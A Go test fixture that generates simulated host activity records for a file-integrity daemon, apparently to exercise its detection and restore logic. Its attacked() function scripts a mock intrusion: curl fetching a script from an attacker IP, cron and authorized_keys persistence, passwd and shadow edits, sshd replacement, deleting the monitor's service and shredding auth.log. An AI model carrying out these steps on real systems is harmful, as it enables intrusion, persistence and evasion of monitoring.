package fleettest

import (
	"fmt"

	"github.com/holdfast/holdfast/pkg/event"
)

type person struct {
	name    string
	uid     uint32
	address string
}

func people() []person {
	return []person{{"alice", 1000, "192.0.2.17"}, {"bob", 1001, "192.0.2.23"}, {"carol", 1002, "2001:db8:10::5"}, {"dave", 1003, "192.0.2.99"}}
}

// live adds the records of one day.
func (h *host) live(day int, o Options) {
	weekday := (day+1)%7 < 5
	switch {
	case day == 0:
		h.start(h.day+second, "started")
	case h.r.IntN(12) == 0:
		h.restart()
	}
	h.rotate()
	for range 24 / 4 {
		h.certificates()
	}
	if weekday {
		for range 1 + h.r.IntN(2) {
			h.administrate()
		}
		if h.role == "web" || h.role == "build" {
			h.deploy()
		}
	}
	if day%7 == 2 {
		h.upgrade()
	}
	if o.Busy > 0 {
		h.serve(o.Busy)
	}
	if h.r.IntN(8) == 0 {
		h.lose()
	}
	if day == h.campaign {
		h.attacked(h.intruder)
	} else if h.r.IntN(25) == 0 {
		h.attacked(fmt.Sprintf("198.51.100.%d", 1+h.r.IntN(250)))
	}
}

// start is what the daemon records when it begins.
func (h *host) start(at event.Time, reason string) {
	if h.boot == "" {
		h.boot, h.booted = h.newBoot(), at-20*second
	}
	sensor := &event.Sensor{Tier: h.tier}
	h.add(&event.Record{Time: at, Kind: event.RecAgent, Reason: reason, Sensor: sensor, Boot: h.boot,
		Detail: map[string]string{"version": "0.6.0", "kernel": "6.1.0-31-amd64", "tier": h.tier, "tier_wanted": "auto", "pid": "612"}}, nil)
	h.add(&event.Record{Time: at + second, Kind: event.RecPolicy, Reason: "policy loaded", Boot: h.boot, Detail: map[string]string{"rules": "4"}}, nil)
	if h.tier == "tracepoint" {
		h.add(&event.Record{Time: at + second, Kind: event.RecAgent, Reason: "degraded: rule programs wants block: this kernel cannot: changes are put back instead", Sensor: sensor, Boot: h.boot}, nil)
	}
	h.add(&event.Record{Time: at + 3*second, Kind: event.RecAgent, Reason: "armed", Sensor: sensor, Boot: h.boot,
		Detail: map[string]string{"/etc": "1204 paths, 0 of them cannot be put back", "/usr": "48211 paths, 0 of them cannot be put back"}}, nil)
}

func (h *host) newBoot() string {
	d := digits(h.r, 16)
	return d[:8] + "-" + d[8:12] + "-" + d[12:16] + "-" + d[16:20] + "-" + d[20:]
}

// restart is a reboot in the first hour, in which nothing else happens: a gap while nobody looked, and a new boot.
func (h *host) restart() {
	down := h.day + 10*minute + event.Time(h.r.Int64N(int64(20*minute)))
	up := down + minute + event.Time(h.r.Int64N(int64(5*minute)))
	h.add(&event.Record{Time: down, Kind: event.RecAgent, Reason: "stopped: system is going down", Sensor: &event.Sensor{Tier: h.tier}, Boot: h.boot}, nil)
	h.boot, h.booted, h.session = "", 0, 0
	h.start(up, "started")
	h.gap(down, up+2*second, 0, event.CauseDown)
}

// gap declares a loss and closes it a little later.
func (h *host) gap(from, to event.Time, lost uint64, cause string) *event.Record {
	trees := []string{"/etc", "/usr", "/srv/app"}
	reason := "events were lost"
	if cause == event.CauseDown {
		reason = "the daemon was not running"
	}
	open := h.add(&event.Record{Time: to, Kind: event.RecGap, Reason: reason,
		Gap: &event.Gap{Lost: lost, From: from, To: to, Causes: []string{cause}, Trees: trees, Rescan: event.RescanPending}}, nil)
	state := event.RescanDone
	if h.r.IntN(15) == 0 {
		state = event.RescanFailed
	}
	changes := uint64(0)
	if cause != event.CauseDown && h.r.IntN(2) == 0 {
		changes = 1
		r := &event.Record{Time: from, TimeEnd: to + 8*second, Kind: event.RecChange, Op: "write", Ops: []string{"write"}, Path: "/etc/motd", Rule: "etc", Mode: event.ModeRestore,
			Verdict: event.VerdictObserved, Reason: "found by the rescan after a loss", Found: event.FoundAfterGap, Actor: event.Nobody(),
			Before: &event.State{Exists: true, Type: event.TypeRegular, Hash: h.hash(), Size: 120, Mode: 0o644, User: "root", Group: "root"},
			After:  &event.State{Exists: true, Type: event.TypeRegular, Hash: h.hash(), Size: 133, Mode: 0o644, User: "root", Group: "root"}, Gap: &event.Gap{}}
		h.add(r, open)
	}
	h.add(&event.Record{Time: to + 10*second, Kind: event.RecGap, Reason: "rescan " + state,
		Gap: &event.Gap{Lost: lost, From: from, To: to, Causes: []string{cause}, Trees: trees, Rescan: state, Looked: 49_415, Changes: changes}}, open)
	return open
}

// lose is a burst that the ring had no room for.
func (h *host) lose() {
	t := h.between(2, 22)
	h.gap(t, t+2*second, uint64(1+h.r.IntN(4000)), choose(h.r, event.CauseRing, event.CauseRing, event.CauseQueue))
}

// rotate is the nightly job over the logs.
func (h *host) rotate() {
	s := h.service(h.day+6*hour+25*minute+event.Time(h.r.Int64N(int64(minute))), "logrotate.service", "/usr/sbin/logrotate", "/usr/sbin/logrotate", "/etc/logrotate.conf")
	for _, f := range []string{"syslog", "auth.log", "kern.log", "dpkg.log"} {
		r := s.change("rename", "/var/log/"+f, byNobody)
		r.PathTo = "/var/log/" + f + ".1"
		s.change("create", "/var/log/"+f, byNobody)
	}
}

// certificates are looked after by a timer that mostly finds nothing to do.
func (h *host) certificates() {
	s := h.service(h.between(1, 24), "certbot.service", "/usr/bin/certbot", "certbot", "renew", "-q")
	s.change("write", "/var/log/letsencrypt/letsencrypt.log", byNobody)
	if h.r.IntN(40) == 0 {
		s.change("write", "/etc/letsencrypt/live/"+h.name+"/fullchain.pem", byRule)
	}
}

// administrate is a person who logs in and edits: mostly within a window, sometimes not.
func (h *host) administrate() {
	p := people()[h.r.IntN(len(people()))]
	began := h.between(8, 17)
	origin := event.OriginSSH
	if h.r.IntN(12) == 0 {
		origin = event.OriginConsole
	}
	s := h.login(began, p.name, p.uid, origin, p.address)
	s.sudo()
	shell := s.proc
	for range 1 + h.r.IntN(4) {
		s.step(10 * minute)
		path := choose(h.r, "/etc/nginx/nginx.conf", "/etc/ssh/sshd_config", "/etc/hosts", "/etc/sysctl.d/90-local.conf", "/etc/fstab", "/etc/sudoers.d/ops", "/etc/resolv.conf")
		exe := choose(h.r, "/usr/bin/vim.basic", "/usr/bin/sed", "/usr/bin/tee", "/usr/bin/nano")
		s.exec(exe, exe[len("/usr/bin/"):], path)
		switch h.r.IntN(10) {
		case 0:
			failure := ""
			if h.r.IntN(3) == 0 {
				failure = "rename " + path + ": no space left on device"
			}
			s.restored(s.change(choose(h.r, "write", "chmod"), path, byNobody), failure)
		case 1:
			s.exec("/usr/sbin/holdfast", "holdfast", "trust", "--reason", "TICKET-"+fmt.Sprint(1000+h.r.IntN(9000)), path)
			r := s.record(event.RecResponse, "", path)
			r.Verdict, r.Reason = event.VerdictPromoted, "trusted by "+p.name
			r.File, r.Sensor, r.Response = nil, nil, &event.Response{Action: "trust", Outcome: "done"}
			h.add(r, nil)
		default:
			s.change("write", path, byWindow(fmt.Sprintf("CHG-%d", 4000+h.r.IntN(900))))
		}
		s.back(shell)
	}
	s.logout(began)
}

// deploy is the pipeline that brings a release.
func (h *host) deploy() {
	began := h.between(9, 16)
	s := h.login(began, "deploy", 990, event.OriginSSH, "192.0.2.200")
	release := began.Go().Format("20060102150405")
	s.exec("/usr/bin/rsync", "rsync", "--server", "-logDtpre.iLsfxC", ".", "/srv/app/releases/"+release)
	for i := range 8 + h.r.IntN(20) {
		s.change("create", fmt.Sprintf("/srv/app/releases/%s/%s%d.js", release, choose(h.r, "app", "vendor", "chunk"), i), byWindow("release-"+release[:8]))
	}
	s.exec("/usr/bin/ln", "ln", "-sfn", "releases/"+release, "/srv/app/current")
	s.change("symlink", "/srv/app/current", byWindow("release-"+release[:8]))
	s.logout(began)
}

// upgrade is the package manager's.
func (h *host) upgrade() {
	s := h.service(h.between(3, 5), "apt-daily-upgrade.service", "/usr/bin/apt-get", "apt-get", "-y", "upgrade")
	s.exec("/usr/bin/dpkg", "dpkg", "--unpack", "--auto-deconfigure")
	for _, f := range []string{"openssl", "curl", "sudo", "ssh", "scp", "perl", "gpg", "git"} {
		if h.r.IntN(2) == 0 {
			continue
		}
		r := s.change("rename", "/usr/bin/"+f+".dpkg-new", byRule)
		r.PathTo = "/usr/bin/" + f
	}
	s.change("write", "/etc/ssl/certs/ca-certificates.crt", byRule)
}

// serve is the ordinary work of the host's service.
func (h *host) serve(n int) {
	unit, exe := "app.service", "/srv/app/bin/server"
	switch h.role {
	case "db":
		unit, exe = "postgresql.service", "/usr/lib/postgresql/15/bin/postgres"
	case "mail":
		unit, exe = "postfix.service", "/usr/sbin/postfix"
	}
	s := h.service(h.day+hour, unit, exe, exe, "-D", "/srv/data")
	gap := int64(22*hour) / int64(n)
	for i := range n {
		s.at = h.day + hour + event.Time(int64(i)*gap+h.r.Int64N(gap))
		s.change("write", fmt.Sprintf("/srv/data/%02x/%04x", h.r.IntN(64), h.r.IntN(2000)), byNobody)
	}
}

// attacked is somebody with a stolen key: what could be put back was, what could be refused too.
func (h *host) attacked(from string) {
	began := h.between(1, 5)
	s := h.login(began, "backup", 34, event.OriginSSH, from)
	s.step(minute)
	s.exec("/usr/bin/curl", "curl", "-s", "http://"+from+"/x.sh")
	s.sudo()
	shell := s.proc
	for _, x := range []struct{ exe, op, path string }{
		{"/usr/bin/tee", "create", "/etc/cron.d/.sync"},
		{"/usr/bin/bash", "write", "/root/.ssh/authorized_keys"},
		{"/usr/sbin/useradd", "write", "/etc/passwd"},
		{"/usr/sbin/useradd", "write", "/etc/shadow"},
		{"/usr/bin/cp", "write", "/usr/sbin/sshd"},
		{"/usr/bin/chmod", "chmod", "/usr/bin/find"},
		{"/usr/bin/rm", "unlink", "/etc/systemd/system/holdfast.service"},
		{"/usr/bin/shred", "write", "/var/log/auth.log"},
	} {
		s.step(40 * second)
		s.exec(x.exe, x.exe[len("/usr/"):], x.path)
		switch _, mode := rule(x.path); {
		case mode == event.ModeBlock && h.tier == "lsm":
			for range 1 + h.r.IntN(5) {
				s.attempt(x.op, x.path)
			}
		case mode == event.ModeObserve:
			s.change(x.op, x.path, byNobody)
		default:
			failure := ""
			if x.op == "unlink" && h.r.IntN(2) == 0 {
				failure = "link " + x.path + ": read-only file system"
			}
			s.restored(s.change(x.op, x.path, byNobody), failure)
		}
		s.back(shell)
	}
	s.logout(began)
}
